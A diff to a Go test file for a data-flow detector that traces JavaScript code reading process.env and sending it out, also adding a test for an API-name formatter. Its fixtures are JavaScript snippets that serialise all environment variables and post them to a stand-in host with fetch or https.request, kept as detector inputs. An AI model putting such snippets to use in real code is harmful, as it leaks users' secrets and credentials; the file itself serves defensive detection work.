@@ -15,7 +15,7 @@ func TestFlows(t *testing.T) {
 		files map[string]string
 		want  []string // first and last step
 	}{
-		"in one line":      {map[string]string{"index.js": send + "https.request('https://a.example').write(JSON.stringify(process.env))"}, []string{"index.js:1 process.env", "index.js:1 https.request#write"}},
+		"in one line":      {map[string]string{"index.js": send + "https.request('https://a.example').write(JSON.stringify(process.env))"}, []string{"index.js:1 process.env", "index.js:1 https.request(…).write"}},
 		"a variable":       {map[string]string{"index.js": send + "\nconst all = { ...process.env }\nconst body = JSON.stringify(all)\nfetch('https://a.example', { body })"}, []string{"index.js:2 process.env", "index.js:4 fetch"}},
 		"a parameter":      {map[string]string{"index.js": send + "\nfunction post(body) {\n  fetch('https://a.example', { body })\n}\npost(JSON.stringify(process.env))"}, []string{"index.js:5 process.env", "index.js:3 fetch"}},
 		"a returned value": {map[string]string{"index.js": "function all() {\n  return JSON.stringify(process.env)\n}\nfetch('https://a.example', { body: all() })"}, []string{"index.js:2 process.env", "index.js:4 fetch"}},
@@ -49,5 +49,16 @@ func TestFlows(t *testing.T) {
 				t.Errorf("%q, want it to go from %q", flow, test.want)
 			}
 		})
+	}
+}
+
+func TestSpoken(t *testing.T) {
+	for api, want := range map[string]string{
+		"globalThis.fetch": "fetch", "os.hostname": "os.hostname", "https.get@on@": "https.get(callback).on(callback)", "net.Socket#connect": "net.Socket(…).connect",
+		"https.request##": "https.request(…)(…)", "@parcel/watcher.subscribe@path": "@parcel/watcher.subscribe(callback).path", "@parcel/watcher": "@parcel/watcher", "": "", "@": "@",
+	} {
+		if got := Spoken(api); got != want {
+			t.Errorf("%s: %s, want %s", api, got, want)
+		}
 	}
 }
